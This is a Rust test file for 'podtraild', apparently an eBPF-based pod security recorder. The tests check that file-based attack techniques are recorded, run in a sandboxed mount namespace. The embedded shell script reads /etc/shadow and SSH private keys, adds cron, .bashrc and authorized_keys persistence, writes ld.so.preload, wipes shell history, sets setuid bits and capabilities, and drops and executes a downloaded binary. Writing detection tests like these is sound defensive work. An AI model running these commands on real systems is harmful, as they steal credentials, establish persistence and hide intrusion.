//! Privileged end-to-end tests of the `file` table: the real `podtraild`
//! records real attack techniques that work through files, run by a shell in
//! a kubelet-named pod cgroup. The shell runs in a mount namespace of its own
//! with overlays on /etc and /root and tmpfs on /tmp and /home, so the host's files are
//! never touched (the overlays' upper layers are in a tmpfs that goes with the
//! namespace). Each technique must give exactly one row of its operation with
//! path, result and pod; a dropped binary's write and its exec must join on
//! device and inode; opens that match nothing must give no row.

use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};

use podtrail_tests::privileged::{PodCgroup, Recorder, in_cgroup};
use podtrail_tests::sql_json;
use serde_json::{Value, json};

/// The test pod's shell: `script` after the private mounts, with HOME=/root.
/// Returns its stdout; it must succeed.
fn in_pod_shell(cg: &PodCgroup, work: &Path, script: &str) -> String {
    let setup = format!(
        "set -e
mount -t tmpfs pt-file-test {w}
mkdir {w}/etc-up {w}/etc-work {w}/root-up {w}/root-work
mount -t overlay pt-etc -o lowerdir=/etc,upperdir={w}/etc-up,workdir={w}/etc-work /etc
mount -t overlay pt-root -o lowerdir=/root,upperdir={w}/root-up,workdir={w}/root-work /root
mount -t tmpfs pt-tmp /tmp
mount -t tmpfs pt-home /home
cd /root
set +e
",
        w = work.display()
    );
    let mut child = in_cgroup(Command::new("unshare").args(["-m", "--propagation", "private", "bash", "-s"]), cg)
        .env("HOME", "/root")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("unshare (util-linux)");
    child.stdin.take().unwrap().write_all(format!("{setup}{script}").as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "the pod's shell failed: {}\n{}\n{}", out.status, String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A one-file HTTP server on 127.0.0.1 (python3), killed on drop.
struct Server(std::process::Child, u16);

impl Server {
    fn start(dir: &Path) -> Server {
        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        // Owned by the Server from here: its Drop kills and waits even when
        // the server never answers.
        let server = Server(
            Command::new("python3")
            .args(["-m", "http.server", "--bind", "127.0.0.1", &port.to_string(), "--directory", dir.to_str().unwrap()])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
                .spawn()
                .expect("python3"),
            port,
        );
        for _ in 0..100 {
            if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
                return server;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        panic!("http.server on 127.0.0.1:{port} did not start");
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn each_file_technique_is_one_row_with_path_result_and_pod() {
    let mut rec = Recorder::start_with(&["--no-cri"]);
    assert!(!rec.log.contains("file_exit"), "file.bpf.o must load on this kernel:\n{}", rec.log);
    let cg = PodCgroup::new("file");
    let tmp = tempfile::tempdir().unwrap();
    let work = tmp.path().join("ns");
    std::fs::create_dir(&work).unwrap();
    let served = tmp.path().join("www");
    std::fs::create_dir(&served).unwrap();
    std::fs::copy("/bin/true", served.join("x")).unwrap();
    let server = Server::start(&served);

    // One technique per line; the dropper last but one, its sha256 and
    // device/inode printed for the comparison below.
    let out = in_pod_shell(
        &cg,
        &work,
        &format!(
            "read -r line < /etc/shadow
echo '* * * * * root id' > /etc/cron.d/pt-x
echo 'alias ls=evil' >> /root/.bashrc
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAA attacker' > /root/.ssh/authorized_keys
echo /tmp/lib.so > /etc/ld.so.preload
rm /etc/ld.so.preload
: > /root/.bash_history
touch /tmp/.pt-hidden
cp /bin/true /tmp/pt-tool
chmod u+s /tmp/pt-tool
setcap cap_setuid=ep /tmp/pt-tool
mv /etc/cron.d/pt-x /etc/cron.d/pt-y
curl -sf -o /tmp/x http://127.0.0.1:{port}/x
chmod +x /tmp/x
/tmp/x
stat -c 'dropped %d %i' /tmp/x
sha256sum /tmp/x
LD_PRELOAD=/tmp/lib.so /bin/true 2>/dev/null
# Credential reads: a user's SSH key, another process's environment (not
# its own, nor /proc/self: no rows).
mkdir -p /home/alice/.ssh
echo key > /home/alice/.ssh/id_ed25519
read -r line < /home/alice/.ssh/id_ed25519
sleep 30 &
other=$!
read -r line < /proc/$other/environ
read -r line < /proc/self/environ
read -r line < /proc/$$/environ
echo procs $$ $other
kill $other
# The pod lives on a little, as a container's main process does: the recorder
# reads the dropped file through it.
sleep 2
true",
            port = server.1
        ),
    );
    drop(server);
    std::thread::sleep(std::time::Duration::from_millis(300));
    let summary = rec.stop();
    assert_eq!(summary["kernel_drops"], 0, "{summary}");
    let d = &rec.data_dir;
    let pod = format!("pod_uid = '{}' AND container_id = '{}'", cg.uid, cg.container_id);
    let rows = |op: &str, path: &str| sql_json(d, &format!("SELECT op, path, new_path, xattr, open_flags, created, mode, result, error, reason, device, inode, comm, exec_id, mnt_ns FROM file WHERE {pod} AND op = '{op}' AND path = '{path}' ORDER BY time"));
    let one = |op: &str, path: &str| -> Value {
        let r = rows(op, path);
        assert_eq!(r.len(), 1, "exactly one {op} of {path}: {r:?}\nall rows: {:?}", sql_json(d, &format!("SELECT op, path, reason, comm FROM file WHERE {pod} ORDER BY time")));
        assert!(r[0]["exec_id"].is_u64() && r[0]["mnt_ns"].as_u64() > Some(0), "{r:?}");
        r[0].clone()
    };

    // A shell builtin reading /etc/shadow.
    let shadow = one("read", "/etc/shadow");
    assert_eq!((&shadow["open_flags"], &shadow["reason"], &shadow["comm"]), (&json!("O_RDONLY"), &json!("read:/etc/shadow"), &json!("bash")));
    assert!(shadow["result"].as_i64().unwrap() >= 0 && shadow["inode"].is_u64(), "{shadow}");
    // Persistence: cron, a shell rc file, authorized_keys, the loader's preload list.
    let cron = one("open", "/etc/cron.d/pt-x");
    assert_eq!((&cron["created"], &cron["reason"], &cron["open_flags"]), (&json!(true), &json!("watch:/etc/"), &json!("O_WRONLY|O_CREAT|O_TRUNC")));
    let rc = one("open", "/root/.bashrc");
    assert!(rc["open_flags"].as_str().unwrap().contains("O_APPEND") && rc["reason"] == "watch:/root/,name:.bashrc", "{rc}");
    let keys = one("open", "/root/.ssh/authorized_keys");
    assert_eq!((&keys["created"], &keys["reason"]), (&json!(true), &json!("watch:/root/,name:authorized_keys")));
    let preload = one("open", "/etc/ld.so.preload");
    assert_eq!(preload["created"], true);
    // Covering tracks: the preload list removed, the history emptied.
    let rm = one("unlink", "/etc/ld.so.preload");
    assert_eq!((&rm["result"], &rm["comm"]), (&json!(0), &json!("rm")));
    let history = one("open", "/root/.bash_history");
    assert!(history["open_flags"].as_str().unwrap().contains("O_TRUNC") && history["reason"] == "watch:/root/,name:.bash_history", "{history}");
    // Hiding, a setuid bit, a file capability, a rename.
    let hidden = one("open", "/tmp/.pt-hidden");
    assert_eq!((&hidden["created"], &hidden["reason"]), (&json!(true), &json!("hidden")));
    let setuid = one("chmod", "/tmp/pt-tool");
    assert_eq!((&setuid["mode"], &setuid["reason"], &setuid["result"]), (&json!(0o4755), &json!("exec_bit,setid"), &json!(0)));
    let cap = one("setxattr", "/tmp/pt-tool");
    assert_eq!((&cap["xattr"], &cap["reason"], &cap["result"]), (&json!("security.capability"), &json!("security_xattr"), &json!(0)));
    let mv = one("rename", "/etc/cron.d/pt-x");
    assert_eq!((&mv["new_path"], &mv["result"]), (&json!("/etc/cron.d/pt-y"), &json!(0)));

    // The dropper: curl's write of /tmp/x (sent at its exec) and the exec
    // join on device and inode, which are the file's as stat gives them.
    let dropped: Vec<&str> = out.lines().find(|l| l.starts_with("dropped ")).expect("stat output").split(' ').collect();
    let (dev, ino): (u64, u64) = (dropped[1].parse().unwrap(), dropped[2].parse().unwrap());
    let write = one("open", "/tmp/x");
    assert_eq!((&write["comm"], &write["created"], &write["reason"]), (&json!("curl"), &json!(true), &json!("executed")));
    assert_eq!((write["device"].as_u64(), write["inode"].as_u64()), (Some(dev), Some(ino)), "{write}");
    let joined = sql_json(d, &format!("SELECT e.binary, f.comm AS writer FROM process_exec e JOIN file f ON e.device = f.device AND e.inode = f.inode AND f.op = 'open' WHERE e.pod_uid = '{}' AND f.pod_uid = e.pod_uid AND e.binary = '/tmp/x'", cg.uid));
    assert_eq!(joined, vec![json!({"binary": "/tmp/x", "writer": "curl"})]);
    let sum = out.lines().find(|l| l.ends_with(" /tmp/x")).expect("sha256sum output").split(' ').next().unwrap().to_string();
    let hashed = sql_json(d, &format!("SELECT sha256 FROM process_exec WHERE {pod} AND binary = '/tmp/x'"));
    assert_eq!(hashed, vec![json!({"sha256": sum})], "the exec row's SHA-256 is sha256sum's");
    let chmod_x = one("chmod", "/tmp/x");
    assert_eq!((&chmod_x["mode"], &chmod_x["reason"]), (&json!(0o755), &json!("exec_bit")));
    // Reads of a user's SSH key and of another process's environment, by the
    // forms `~/` and `/proc/*/`; the shell's reads of its own are not rows.
    let key = one("read", "/home/alice/.ssh/id_ed25519");
    assert_eq!((&key["reason"], &key["comm"]), (&json!("read:~/.ssh/"), &json!("bash")));
    let procs: Vec<&str> = out.lines().find(|l| l.starts_with("procs ")).expect("the shell's pids").split(' ').collect();
    let env = one("read", &format!("/proc/{}/environ", procs[2]));
    assert_eq!(env["reason"], "read:/proc/*/environ", "{env}");
    let own = sql_json(d, &format!("SELECT path FROM file WHERE {pod} AND op = 'read' AND path IN ('/proc/self/environ', '/proc/{}/environ')", procs[1]));
    assert!(own.is_empty(), "the shell's reads of its own environment: {own:?}");
    // The loader's variables on the exec row.
    let preloaded = sql_json(d, &format!("SELECT loader_env FROM process_exec WHERE {pod} AND binary = '/bin/true' AND cardinality(loader_env) > 0"));
    assert_eq!(preloaded, vec![json!({"loader_env": ["LD_PRELOAD=/tmp/lib.so"]})]);
}

#[test]
fn opens_that_match_nothing_give_no_rows() {
    let mut rec = Recorder::start_with(&["--no-cri"]);
    let cg = PodCgroup::new("file-quiet");
    let tmp = tempfile::tempdir().unwrap();
    let plain = tmp.path().join("plain.txt");
    std::fs::write(&plain, "x").unwrap();
    // 1,000,000 read-only opens of a file nothing watches (and of /etc/hostname:
    // watched for changes, not reads), by one process in the pod.
    let code = format!(
        "import os\nfor i in range(500000):\n    os.close(os.open({p:?}, os.O_RDONLY))\n    os.close(os.open('/etc/hostname', os.O_RDONLY))\nprint('done')",
        p = plain.to_str().unwrap()
    );
    let out = in_cgroup(Command::new("python3").args(["-c", &code]), &cg).output().unwrap();
    assert!(out.status.success() && String::from_utf8_lossy(&out.stdout).trim() == "done", "{out:?}");
    std::thread::sleep(std::time::Duration::from_millis(300));
    let summary = rec.stop();
    assert_eq!(summary["kernel_drops"], 0, "{summary}");
    let pod = format!("pod_uid = '{}'", cg.uid);
    assert_eq!(sql_json(&rec.data_dir, &format!("SELECT count(*) AS n FROM file WHERE {pod}")), vec![json!({"n": 0})]);
    // The same process's exec is there: the pod was recorded, its opens were not rows.
    assert!(sql_json(&rec.data_dir, &format!("SELECT count(*) AS n FROM process_exec WHERE {pod} AND comm LIKE 'python%'"))[0]["n"].as_u64() > Some(0), "the pod's python exec is recorded");
}

#[test]
fn a_file_object_the_kernel_refuses_leaves_everything_else_recording() {
    // An object that is not ELF stands in for one a kernel refuses.
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("file.bpf.o"), b"not an object").unwrap();
    let mut rec = Recorder::start_with_env(&["--no-cri"], &[(podtrail_recorder::probes::BPF_OVERRIDE_ENV, dir.path().to_str().unwrap())]);
    let cg = PodCgroup::new("file-refused");
    let out = in_cgroup(&mut Command::new("/bin/true"), &cg).output().unwrap();
    assert!(out.status.success());
    std::thread::sleep(std::time::Duration::from_millis(300));
    let summary = rec.stop();
    assert!(rec.log.contains("no `file` rows; everything else is recorded"), "{}", rec.log);
    let d = &rec.data_dir;
    let pod = format!("pod_uid = '{}'", cg.uid);
    assert_eq!(sql_json(d, &format!("SELECT count(*) AS n FROM process_exec WHERE {pod} AND binary = '/bin/true'")), vec![json!({"n": 1})], "{summary}");
    let meta: String = rusqlite::Connection::open(d.join("catalog.db")).unwrap().query_row("SELECT value FROM meta WHERE key = 'file_events'", [], |r| r.get(0)).unwrap();
    let meta: Value = serde_json::from_str(&meta).unwrap();
    assert_eq!(meta["mode"], "unavailable", "{meta}");
}
